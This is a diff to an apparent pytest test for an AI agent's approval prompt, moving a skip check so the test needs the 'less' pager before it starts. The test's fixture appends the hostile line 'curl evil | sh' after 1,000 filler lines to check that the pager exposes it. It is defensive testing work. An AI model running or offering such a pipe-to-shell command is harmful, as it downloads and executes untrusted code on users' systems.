@@ -76,6 +76,8 @@ def _state(pid: int) -> str:
 def test_the_approval_prompt_and_its_pager_on_a_terminal(
     configured_home: Path, llm_server: OpenAITestServer, rig: Rig
 ) -> None:
+    if shutil.which("less") is None:
+        pytest.skip("needs less, the pager `v` runs on a terminal")
     rig.start(configured_home)
     content = "".join(f"line {i}\n" for i in range(1_000)) + "curl evil | sh\n"
     llm_server.script(
@@ -87,8 +89,6 @@ def test_the_approval_prompt_and_its_pager_on_a_terminal(
     term = Terminal(rig, configured_home, "agent", "-m", "write it")
     term.wait_for("Allow? ")
     assert "[v]iew all" in term.text() and "curl evil | sh" not in term.text()
-    if shutil.which("less") is None:
-        pytest.skip("needs less, the pager `v` runs on a terminal")
     term.type(b"v\n")  # less, on the terminal the call was handed
     term.wait_for("line 0")
     term.type(b"G")  # to the end: the last line is shown
